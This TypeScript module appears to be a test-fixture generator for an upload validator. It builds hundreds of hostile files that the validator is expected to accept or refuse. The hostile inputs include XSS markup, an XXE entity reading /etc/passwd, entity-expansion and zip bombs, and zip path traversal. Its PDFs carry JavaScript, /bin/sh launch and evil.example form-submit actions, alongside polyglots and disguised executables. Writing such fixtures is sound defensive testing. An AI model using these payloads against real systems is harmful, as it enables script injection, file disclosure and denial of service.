// Some six hundred files that want something: to run, to fill a disk, to be taken for something else.
import { gzipSync } from "node:zlib";
import { gifFile, jpegFile, mailFile, objectStream, pdfFile, pngFile, webpFile } from "./good-files";
import { each, type HostileFile, refused, taken } from "./hostile-file";
import { damaged, images, names } from "./hostile-oddities";
import { officeFile, openDocument, zipFile } from "./zip-file";

/** Whatever runs it leaves a trace that a test can see. */
const RUN = "top.executed=1;window.executed=1;console.log('executed');alert('executed');fetch('/executed')";
const PAYLOADS = [
  `<script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<svg onload="${RUN}"></svg>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<a href="javascript:${RUN}">x</a><meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `</pre></td></table></title></style></textarea><script>${RUN}</script>`,
  `"'><body onload=${RUN}>`,
  `<style>@import '/executed';body{background:url(/executed)}</style>`,
];
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"><script>${RUN}</script></svg>`;
const TEXT_ENDINGS = ["txt", "csv", "tsv", "md", "log", "json", "xml", "eml"];
const ENDINGS = [...TEXT_ENDINGS, "png", "pdf", "docx", "zip"];

function pages(): HostileFile[] {
  const openings = [
    "<!DOCTYPE html><html><body>",
    "<html>",
    "  \r\n\t<html lang=en>",
    "\ufeff<!doctype html>",
    "<!-- a comment --><html>",
    '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">',
    "<script>",
    "<body onload=alert('executed')>",
    "<iframe src=javascript:alert('executed')>",
    "<SVG onload=alert('executed')>",
    "<link rel=stylesheet href=/executed>",
    "<base href=//evil.example/>",
  ];
  return each(openings, (opening, n) => [
    ...each(["html", "htm", "xhtml", "svg"], (ending) => [
      refused("web page", `page-${n}.${ending}`, `${opening}${PAYLOADS[0]}`),
    ]),
    ...each(ENDINGS, (ending) => [
      refused("web page renamed", `page-${n}.${ending}`, `${opening}${PAYLOADS[n % PAYLOADS.length]}`),
    ]),
    refused("web page in 16 bits", `wide-${n}.txt`, Buffer.from(`\ufeff${opening}${PAYLOADS[0]}`, "utf16le")),
  ]);
}

/** Markup inside text is what people write in notes and logs: taken, and shown as the text it is. */
function markup(): HostileFile[] {
  return each(PAYLOADS, (payload, n) => [
    ...each(["txt", "md", "log"], (ending) => [
      taken("markup in text", `note-${n}.${ending}`, `Finding ${n}:\n${payload}\n`),
    ]),
    taken("markup in text", `wide-note-${n}.txt`, Buffer.from(`\ufeffFinding:\r\n${payload}`, "utf16le")),
    taken(
      "markup in a table",
      `table-${n}.csv`,
      `Name,Note\n"a","${payload.replaceAll('"', '""')}"\n${payload},x\n`,
    ),
    taken("markup in a table", `table-${n}.tsv`, `Name\tNote\na\t${payload}\n`),
    taken("markup in JSON", `data-${n}.json`, JSON.stringify({ finding: payload })),
    taken("markup in a mail", `mail-${n}.eml`, mailFile(`<html><body>${payload}</body></html>`)),
  ]);
}

function xml(): HostileFile[] {
  const bad = [
    `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>`,
    `<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><l>&b;</l>`,
    `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="/executed"?><x/>`,
    `<?xml version="1.0"?><x xmlns:h="http://www.w3.org/1999/xhtml"><h:script>${RUN}</h:script></x>`,
    `<?xml version="1.0"?><x><y xmlns="http://www.w3.org/2000/svg"><script>${RUN}</script></y></x>`,
    `<?xml version="1.0"?><x>${" ".repeat(300_000)}<script>${RUN}</script></x>`,
    `<?xml version="1.0"?>${SVG}`,
  ];
  return [
    ...each(bad, (text, n) => [
      refused("active XML", `active-${n}.xml`, text),
      refused("active XML renamed", `active-${n}.txt`, text),
      refused("active XML in 16 bits", `active-wide-${n}.xml`, Buffer.from(`\ufeff${text}`, "utf16le")),
    ]),
    ...each(["svg", "xml", "png", "txt", "md"], (ending) => [refused("SVG", `drawing.${ending}`, SVG)]),
    taken(
      "plain XML",
      "report.xml",
      '<?xml version="1.0"?><report><host name="db1">&lt;script&gt;</host></report>',
    ),
  ];
}

function polyglots(): HostileFile[] {
  const page = Buffer.from(`<html><body>${PAYLOADS[0]}</body></html>`);
  const pictures = { gif: gifFile(), png: pngFile(), jpg: jpegFile(), webp: webpFile() };
  return [
    ...each(Object.entries(pictures), ([ending, picture]) => [
      taken("picture with a page behind it", `tail.${ending}`, Buffer.concat([picture, page])),
      refused("picture renamed to a page", `tail-${ending}.html`, Buffer.concat([picture, page])),
      refused("picture renamed to text", `tail-${ending}.txt`, Buffer.concat([picture, page])),
      refused("picture that is a PDF", `both.${ending}`, Buffer.concat([picture.subarray(0, 24), pdfFile()])),
    ]),
    refused("script that is a picture", "code.gif.js", `GIF89a/*${RUN}*/=1;${RUN}`),
    taken("script that is a picture", "code.gif", `GIF89a/*\u0000\u0000${RUN}*/=1;${RUN}`),
    ...each([1, 10, 100, 1_000], (n) => [
      refused("PDF behind something", `late-${n}.pdf`, Buffer.concat([Buffer.alloc(n, 0x41), pdfFile()])),
      refused("PDF behind a page", `page-${n}.pdf`, Buffer.concat([page, Buffer.alloc(n, 0x20), pdfFile()])),
    ]),
    taken("PDF with a page behind it", "tail.pdf", Buffer.concat([pdfFile(), page])),
    taken(
      "PDF with an archive behind it",
      "archive.pdf",
      Buffer.concat([pdfFile(), zipFile([{ name: "a.txt", data: "a" }])]),
    ),
    refused(
      "program with an archive behind it",
      "setup.zip",
      Buffer.concat([Buffer.from("MZ\u0090\u0000"), zipFile([{ name: "a.txt" }])]),
    ),
  ];
}

/** Readers show these; what acts in them must not get the chance in a preview. */
function actingPdfs(): HostileFile[] {
  const action = "<</S/JavaScript/JS(app.alert\\('executed'\\))>>";
  const open = "/OpenAction 6 0 R";
  const object = (body: string) => `6 0 obj\n${body}\nendobj\n`;
  const variants = [
    pdfFile({ catalog: open, more: object(action) }),
    pdfFile({ catalog: open, more: object("<</S/J#61vaScript/JS(app.alert\\('executed'\\))>>") }),
    pdfFile({
      catalog: open,
      more: object("<</S /#4a#61#76#61#53#63#72#69#70#74 /JS(app.alert\\('executed'\\))>>"),
    }),
    pdfFile({ catalog: open, more: objectStream(action) }),
    pdfFile({ catalog: "/Names<</JavaScript<</Names[(a) 6 0 R]>>>>", more: object(action) }),
    pdfFile({ catalog: `/AA<</WC ${action}>>` }),
    pdfFile({ catalog: open, more: object("<</S/Launch/F(/bin/sh)>>") }),
    pdfFile({ catalog: "/AcroForm<</XFA 6 0 R>>", more: object("<</Length 0>>") }),
    pdfFile({ catalog: open, more: object("<</S/SubmitForm/F(https://evil.example/)>>") }),
    pdfFile({ catalog: open, more: object("<</S/URI/URI(javascript:alert\\('executed'\\))>>") }),
  ];
  return each(variants, (bytes, n) => [taken("acting PDF", `acting-${n}.pdf`, bytes)]);
}

function offices(): HostileFile[] {
  const main = { docx: "word", xlsx: "xl", pptx: "ppt" } as const;
  const ole = (streams: string) => {
    const bytes = Buffer.alloc(2_048);
    Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]).copy(bytes);
    bytes.writeUInt16LE(9, 30);
    bytes.writeUInt32LE(0, 48);
    Buffer.from(streams, "utf16le").copy(bytes, 512);
    return bytes;
  };
  const password = { manifest: "<manifest:file-entry><manifest:encryption-data/></manifest:file-entry>" };
  const kinds = ["docx", "xlsx", "pptx"] as const;
  const open = { odt: "text", ods: "spreadsheet", odp: "presentation" } as const;
  return [
    ...each(kinds, (kind) => [
      taken("plain Office file", `plain.${kind}`, officeFile(kind)),
      refused(
        "macros",
        `macro.${kind}`,
        officeFile(kind, [{ name: `${main[kind]}/vbaProject.bin`, data: "x" }]),
      ),
      refused("macros", `macro.${kind.replace("x", "m")}`, officeFile(kind)),
      refused("macros", `sheet.${kind}`, officeFile(kind, [{ name: "xl/macrosheets/sheet1.xml" }])),
      refused("password", `locked.${kind}`, ole("EncryptedPackage")),
      refused("old binary format", `old.${kind}`, ole("WordDocument")),
      refused("renamed Office file", `${kind}.zip`, officeFile(kind)),
      refused("renamed Office file", `${kind}.pdf`, officeFile(kind)),
      refused(
        "archive inside",
        `inside.${kind}`,
        officeFile(kind, [{ name: "word/embeddings/a.zip", data: "PK" }]),
      ),
    ]),
    ...each(["doc", "xls", "ppt", "msg", "xlsb", "dotm", "rtf"], (ending) => [
      refused("old Office file", `old.${ending}`, ole("WordDocument")),
    ]),
    refused(
      "binary workbook",
      "book.xlsx",
      zipFile([{ name: "[Content_Types].xml" }, { name: "xl/workbook.bin" }]),
    ),
    ...each(Object.entries(open), ([ending, kind]) => [
      taken("plain OpenDocument", `plain.${ending}`, openDocument(kind)),
      refused("password", `locked.${ending}`, openDocument(kind, password)),
      refused(
        "password",
        `package.${ending}`,
        openDocument(kind, { more: [{ name: "encrypted-package", data: "x" }] }),
      ),
      refused(
        "macros",
        `macro.${ending}`,
        openDocument(kind, { more: [{ name: "Basic/Standard/m.xml", data: "x" }] }),
      ),
    ]),
  ];
}

function archives(): HostileFile[] {
  const zeros = Buffer.alloc(4_000_000);
  const one = { name: "a.txt", data: "evidence" };
  const paths = ["../a.txt", "a/../../b", "/etc/passwd", "C:\\a.txt", "\\\\host\\a", "a\u0000b.txt", "..\\a"];
  const inner = ["a.zip", "a.7z", "a.rar", "a.tar.gz", "a.jar", "a.iso", "deep/er/a.ZIP"];
  const programs = ["a.exe", "b.DLL", "c.scr", "d.msi", "e.lnk", "f.hta", "g.com"];
  return [
    taken("plain archive", "plain.zip", zipFile([one, { name: "b/c.csv", data: "x,y" }])),
    ...each(paths, (name, n) => [refused("path in an archive", `path-${n}.zip`, zipFile([one, { name }]))]),
    ...each(inner, (name, n) => [
      refused("archive in an archive", `inner-${n}.zip`, zipFile([{ name, data: "x" }])),
    ]),
    ...each(programs, (name, n) => [
      refused("program in an archive", `program-${n}.zip`, zipFile([{ name, data: "MZ" }])),
    ]),
    refused(
      "symbolic link",
      "link.zip",
      zipFile([{ name: "a", data: "/etc/passwd", mode: 0o120777, method: 0 }]),
    ),
    refused("password", "locked.zip", zipFile([{ ...one, flags: 0x801 }])),
    refused("password", "locked-aes.zip", zipFile([{ ...one, method: 99 }])),
    refused("password", "locked-strong.zip", zipFile([one, { name: "b", data: "b", flags: 0x841 }])),
    refused("bomb", "flat.zip", zipFile([{ name: "zeros", data: zeros }])),
    refused("bomb", "says.zip", zipFile([{ ...one, says: 4_000_000_000 }])),
    refused(
      "bomb",
      "overlap.zip",
      zipFile([
        { name: "a", data: Buffer.alloc(5_000, 1) },
        { name: "b", shared: true },
      ]),
    ),
    refused(
      "bomb",
      "many.zip",
      zipFile(Array.from({ length: 10_001 }, (_, n) => ({ name: `${n}`, method: 0 }))),
    ),
    refused("bomb", "bomb.docx", officeFile("docx", [{ name: "word/media/a.xml", data: zeros }])),
    refused("lying archive", "more.zip", zipFile([one], 7)),
    refused("lying archive", "fewer.zip", zipFile([one, { name: "b" }], 1)),
    refused("lying archive", "many-said.zip", zipFile([one], 60_000)),
    refused(
      "archive with something behind it",
      "tail.zip",
      Buffer.concat([zipFile([one]), Buffer.from(PAYLOADS[0] ?? "")]),
    ),
    refused("half an archive", "half.zip", zipFile([one]).subarray(0, 40)),
  ];
}

function programs(): HostileFile[] {
  const pad = Buffer.alloc(64);
  const kinds: Readonly<Record<string, Buffer>> = {
    windows: Buffer.concat([Buffer.from("MZ"), pad]),
    linux: Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), pad]),
    macos: Buffer.concat([Buffer.from([0xcf, 0xfa, 0xed, 0xfe]), pad]),
    java: Buffer.concat([Buffer.from([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 61]), pad]),
    wasm: Buffer.concat([Buffer.from([0, 0x61, 0x73, 0x6d, 1, 0, 0, 0]), pad]),
    shortcut: Buffer.concat([Buffer.from([0x4c, 0, 0, 0, 1, 0x14, 2, 0, 0, 0, 0, 0]), pad]),
    sevenzip: Buffer.concat([Buffer.from([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c]), pad]),
    rar: Buffer.concat([Buffer.from("Rar!"), Buffer.from([0x1a, 7, 1, 0]), pad]),
    gzip: gzipSync("x".repeat(1_000)),
    bzip2: Buffer.concat([Buffer.from("BZh9"), pad]),
  };
  const endings = ["exe", "pdf", "png", "txt", "csv", "docx", "zip", "pdf.exe"];
  return each(Object.entries(kinds), ([kind, bytes]) =>
    each(endings, (ending) => [refused(`program (${kind})`, `${kind}.${ending}`, bytes)]),
  );
}

/** All of them, the same in every run. */
export function hostileFiles(): readonly HostileFile[] {
  return [
    pages,
    markup,
    xml,
    polyglots,
    actingPdfs,
    offices,
    archives,
    programs,
    images,
    names,
    damaged,
  ].flatMap((make) => make());
}
